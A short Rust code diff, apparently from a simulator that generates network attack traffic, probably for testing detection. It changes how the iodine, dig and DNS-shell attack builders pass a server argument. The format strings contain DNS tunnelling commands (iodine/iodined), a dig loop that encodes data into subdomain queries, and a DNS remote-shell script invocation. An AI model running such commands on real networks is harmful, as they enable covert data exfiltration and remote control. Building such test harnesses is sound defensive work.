@@ -37,7 +37,7 @@ fn iodine(rng: &mut Rng, site: &Site, number: u32) -> Attack {
         "iodine -f -r -T {kind} -M {name_length} -P secret {server} {ZONE} & for n in $(seq 60); do {inside}; done"
     );
     let end = format!("exec iodined -f -c -l {} -P secret 10.99.0.1 {ZONE}", site.servers[4]);
-    Attack { server: Some((Place::Wan, end)), ..Attack::new(&IODINE, site, server, limit, line) }
+    Attack { server: Some((Place::Wan, end)), ..Attack::new(&IODINE, site, &server, limit, line) }
 }
 
 fn dig(rng: &mut Rng, site: &Site, number: u32) -> Attack {
@@ -50,7 +50,7 @@ fn dig(rng: &mut Rng, site: &Site, number: u32) -> Attack {
     let line = format!(
         "for n in $(seq 2000); do dig +short +tries=1 +time=1 @{server} {kind} {name}.$n.{ZONE} >/dev/null; sleep {pause}; done"
     );
-    Attack { server: end(site), ..Attack::new(&DIG, site, server, rng.u32(30..60), line) }
+    Attack { server: end(site), ..Attack::new(&DIG, site, &server, rng.u32(30..60), line) }
 }
 
 fn shell(rng: &mut Rng, site: &Site, number: u32) -> Attack {
@@ -59,7 +59,7 @@ fn shell(rng: &mut Rng, site: &Site, number: u32) -> Attack {
     let interval = rng.choice(["0.2", "0.5", "1"]).unwrap_or("0.5");
     let kinds = way(&["16,5,15", "16", "1,28"], number);
     let line = format!("exec python3 $S/dnsshell.py {server} {ZONE} {kinds} {interval} {limit}");
-    Attack { server: end(site), ..Attack::new(&SHELL, site, server, limit + 3, line) }
+    Attack { server: end(site), ..Attack::new(&SHELL, site, &server, limit + 3, line) }
 }
 
 fn end(site: &Site) -> Option<(Place, String)> {
